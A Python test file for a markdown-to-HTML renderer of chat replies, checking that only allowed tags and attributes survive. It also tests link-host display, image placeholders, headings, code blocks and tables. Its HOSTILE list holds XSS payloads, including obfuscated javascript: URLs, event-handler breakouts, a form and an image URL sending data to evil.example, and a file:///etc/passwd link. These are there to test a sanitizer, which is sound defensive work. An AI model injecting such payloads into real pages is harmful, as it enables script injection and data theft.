"""What a reply may put into the page, and that nothing hostile comes through."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from halt.markdown import Document, render
from halt.markdown.patch import Enter
from halt.markdown.renderer import CODE_DEPTH
from tests.unit.markdown.corpus import TEXTS
from tests.unit.markdown.page import Page

ALLOWED: dict[str, set[str]] = {
    "p": {"dir"},
    **{f"h{level}": {"dir"} for level in range(3, 7)},
    "blockquote": {"dir"},
    **{tag: {"dir", "class"} for tag in ("ul", "li")},
    "ol": {"dir", "start", "class"},
    **{tag: {"dir", "class"} for tag in ("th", "td")},
    **{tag: set() for tag in ("em", "strong", "s", "br", "hr", "table", "thead", "tbody", "tr")},
    "figure": {"class", "dir"},
    "figcaption": {"hidden"},
    "pre": {"tabindex"},
    "code": {"class", "data-mode"},
    "a": {"href", "target", "rel", "title"},
    "span": {"class", "data-display", "data-tail", "role", "aria-label"},
    "button": {"type", "class", "data-action", "data-format", "data-src", "data-host", "data-footnote", "aria-label"},
    "div": {"class", "data-display", "tabindex", "role", "aria-label", "data-footnote"},
}

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<style>*{display:none}</style>",
    '<a href="javascript:alert(1)">x</a>',
    '<form action="https://evil.example"><input name=key></form>',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](https:evil.example)",
    "[x](https:///evil.example)",
    "[x](https://[evil)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](https://evil.example/?q=secret)",
    '![" onerror="alert(1)](https://evil.example/"onerror=alert(1))',
    '[x](https://evil.example/"onmouseover="alert(1))',
    "[x](https://evil.example '\" onclick=\"alert(1)')",
    '```"><script>alert(1)</script>\nx\n```',
    '```x" onload="y\n</code></pre><script>alert(1)</script>\n```',
    "| <script>a</script> |\n|:--|\n| <img src=x> |",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "\0<script\0>alert(1)</script>",
]


class Inspector(HTMLParser):
    """Fails at the first tag or attribute that a reply must not have."""

    def __init__(self) -> None:
        super().__init__()
        self.hrefs: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED, f"<{tag}> came through"
        for name, value in attrs:
            assert name in ALLOWED[tag], f"<{tag} {name}> came through"
            if name in ("href", "data-src"):
                assert value is not None
                assert value.startswith(("https://", "http://", "mailto:"))
                self.hrefs.append(value)

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        pytest.fail("a comment came through")

    def unknown_decl(self, data: str) -> None:
        pytest.fail("a declaration came through")


def inspect(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


@pytest.mark.parametrize("text", [*HOSTILE, *TEXTS.values()])
def test_only_known_tags_and_attributes(text: str) -> None:
    inspect(render(text))


@pytest.mark.parametrize("text", HOSTILE)
def test_only_known_tags_and_attributes_in_every_patch(text: str) -> None:
    written, page = Document(), Page()
    for character in text:
        page.apply(written.append(character))
        inspect(page.html)
    page.apply(written.finish())
    inspect(page.html)


def test_raw_html_is_shown_as_text() -> None:
    assert inspect(render("a <b>c</b>\n\n<script>d</script>")).text == "a <b>c</b>\n<script>d</script>\n"


def test_a_link_opens_apart_and_names_its_true_host() -> None:
    assert render("[bank.example](https://bank.example@evil.example/a 'bank.example')") == (
        '<p dir="auto"><a href="https://bank.example@evil.example/a" target="_blank" rel="noopener noreferrer nofollow"'
        ' title="evil.example">bank.example</a></p>\n'
    )


def test_a_host_in_another_script_is_named_in_ascii() -> None:
    assert 'title="xn--' in render("[x](https://аррӏе.example)")


@pytest.mark.parametrize(
    "host", ["evil%2Eexample", "a%40b.example", "bank.example%2F.evil.example", "[::1%25eth0]", "a,b", "a;b", "a'b"]
)
def test_a_host_that_browsers_may_read_otherwise_is_no_link(host: str) -> None:
    assert "<a" not in render(f"[x](https://{host}/)")


@pytest.mark.parametrize("host", ["a.example", "a_b.example:8080", "127.0.0.1", "[::1]:8080", "bücher.example"])
def test_hosts_of_any_common_shape_are_links(host: str) -> None:
    assert "<a" in render(f"[x](http://{host}/)")


@pytest.mark.parametrize(
    "target", ["/settings", "#top", "page.html", "ftp://a.example", "javascript:alert(1)", "tel:1"]
)
def test_other_targets_stay_text(target: str) -> None:
    assert render(f"[x]({target})") == f'<p dir="auto">[x]({target})</p>\n'


def test_a_mail_address_is_a_link() -> None:
    assert inspect(render("[x](mailto:a@b.example)")).hrefs == ["mailto:a@b.example"]


def test_an_image_is_a_placeholder_that_names_its_host() -> None:
    assert render("![a *cat*](https://i.example/c.png)") == (
        '<p dir="auto"><span class="image"><button type="button" data-action="load-image"'
        ' data-src="https://i.example/c.png" data-host="i.example" aria-label="Load image from i.example: a cat">'
        "a cat</button></span></p>\n"
    )


def test_only_the_authors_words_are_text_of_images_and_tables() -> None:
    """What the buttons say is no part of the reply, so it is not copied with it."""
    source = "![a *cat*](https://i.example/c.png) ![](https://i.example/d.png)\n\n| a |\n|---|\n| b |\n"
    assert inspect(render(source)).text.split() == ["a", "cat", "a", "b"]


def test_headings_stay_below_the_pages_own() -> None:
    html = render("# a\n## b\n### c\n#### d\n##### e\n###### f\n")
    assert [html[at + 1 : at + 3] for at in range(len(html)) if html.startswith("<h", at)] == [
        "h3",
        "h4",
        "h5",
        "h6",
        "h6",
        "h6",
    ]


CODE_PATTERN = (
    '<figure class="code" dir="ltr">{}<button type="button" class="plain" data-action="copy-code"'
    ' aria-label="Copy code">Copy</button><pre tabindex="0"><code{}>a\n</code></pre></figure>\n'
)


@pytest.mark.parametrize(
    ("source", "caption", "attributes"),
    [
        ("```c++ x\na\n```", "C++", ' class="language-c++" data-mode="clike.cpp"'),
        ("~~~PY\na\n~~~", "Python", ' class="language-PY" data-mode="python.python"'),
        ("```brainfuck\na\n```", "brainfuck", ' class="language-brainfuck"'),
        ("```{.py}\na\n```", "", ""),
        ("```\na\n```", "", ""),
        ("    a\n", "", ""),
    ],
)
def test_code_has_a_header_with_its_language_and_copy(source: str, caption: str, attributes: str) -> None:
    assert render(source) == CODE_PATTERN.format(f"<figcaption>{caption}</figcaption>" if caption else "", attributes)


def test_code_that_is_entered_has_the_shape_of_code_that_is_whole() -> None:
    source = "```python\na\nb\n```\n"
    written = Document()
    entered = [step for step in written.append(source[:14]).steps if isinstance(step, Enter)]
    before, after = render(source).split("a\nb\n")
    assert entered == [Enter(before, after, CODE_DEPTH)]
    # So many last elements below the outermost one: each but the first ends together with the ones inside it.
    assert after.strip() == "</code></pre></figure>"


def test_half_a_languages_name_is_not_taken_for_another() -> None:
    written, page = Document(), Page()
    captions = []
    for character in "```javascript\nx\n":
        page.apply(written.append(character))
        captions.append(page.html.partition("</figcaption>")[0].partition("<figcaption>")[2])  # without "hidden"
    assert set(captions) == {"", "JavaScript"}


def test_a_table_is_a_region_and_aligns_by_class() -> None:
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |\n")
    assert '<div class="table" tabindex="0" role="group" aria-label="Table"><table>' in html
    assert '<td dir="auto" class="align-right">2</td>' in html
    assert "style" not in html
